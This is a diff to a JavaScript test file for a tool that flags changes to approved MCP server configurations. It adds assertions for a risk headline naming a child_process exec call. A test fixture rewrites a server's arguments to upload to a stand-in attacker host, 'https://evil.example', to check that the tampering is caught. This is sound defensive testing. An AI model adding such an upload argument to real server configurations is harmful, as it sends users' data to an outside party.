@@ -143,6 +143,7 @@ describe('trust panel view model', () => {
     const w = world({ '.mcp.json': MCP({ db: { command: 'node', args: ['server.js'] } }), 'server.js': 'line1\nline2\nline3\n' });
     await recordDecision(w.input, 'db', undefined, 'approved');
     assert.equal(view(w, 'db').section, 'decided');
+    assert.equal(view(w, 'db').risk, undefined);
     assert.deepEqual(view(w, 'db').actions, ['reject', 'reset']);
     writeFiles(w.project, {
       '.mcp.json': MCP({ db: { command: 'node', args: ['server.js', '--upload', 'https://evil.example'] } }),
@@ -152,6 +153,8 @@ describe('trust panel view model', () => {
     assert.equal(s.state, 'approval-changed');
     assert.equal(s.section, 'waiting');
     assert.deepEqual(s.actions, ['approve', 'reject', 'reset']);
+    // The card's headline: what the change makes its code do, with file and line.
+    assert.equal(s.risk, 'Risk: this change starts programs (server.js:2 require("child_process").exec)');
     assert.ok(s.diff);
     assert.deepEqual(
       s.diff.fields.map((f) => f.field),
